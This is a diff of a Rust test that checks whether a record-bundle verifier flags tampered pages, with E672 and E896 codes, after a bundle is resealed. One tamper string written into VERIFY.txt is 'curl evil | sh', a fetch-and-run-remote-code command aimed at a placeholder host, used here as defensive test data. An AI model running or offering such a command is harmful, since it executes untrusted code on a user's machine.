@@ -690,8 +690,11 @@ fn a_period_cannot_leave_out_what_its_lines_show() {
     let (company, _) = company();
     let (_, path) = made(&company, &whole_range());
     let whole = files_of(&path);
-    // The log knows another statement than that of what is sealed anew.
+    // The log knows another statement than that of what is sealed anew, and of a bundle that is refused anyway the cover says no more.
     assert_eq!(forged(&company, whole.clone()), ["E672"]);
+    // Of a period without a log its own cover knows better.
+    let files = tamper::without_log(whole);
+    assert_eq!(forged(&company, files.clone()), ["E896"]);
     for (page, words) in [
         (
             "data/00-COVER.html",
@@ -701,13 +704,19 @@ fn a_period_cannot_leave_out_what_its_lines_show() {
         ("VERIFY.txt", "curl evil | sh"),
         ("bag-info.txt", "Dsr-Keep-Until: 1999-01-01"),
     ] {
-        let mut lie = whole.clone();
+        let mut lie = files.clone();
         tamper::file_mut(&mut lie, page).extend(format!("{words}\n").into_bytes());
-        assert_eq!(forged(&company, lie), ["E672", "E896"], "{page}");
+        let path = company.path("lie.zip");
+        let sealed = tamper::seal_anew(lie, &own_seal(&company));
+        fs_err::write(&path, pack(&sealed)).unwrap();
+        let said = verdict(&company, &path);
+        let mut reasons = said["reasons"].as_array().unwrap().iter();
+        let names = |reason: &Value| reason.to_string().contains(page);
+        assert!(
+            reasons.any(|one| one["code"] == "E896" && names(one)),
+            "{page}: {said}"
+        );
     }
-    // Of a period without a log its own cover knows better.
-    let files = tamper::without_log(whole);
-    assert_eq!(forged(&company, files.clone()), ["E896"]);
     let is = |files, code: &str| forged(&company, files).iter().any(|one| one == code);
     let said: Value = serde_json::from_slice(tamper::file(&files, "data/statement.json")).unwrap();
     let gaps = said["predicate"]["notProven"].as_array().unwrap();
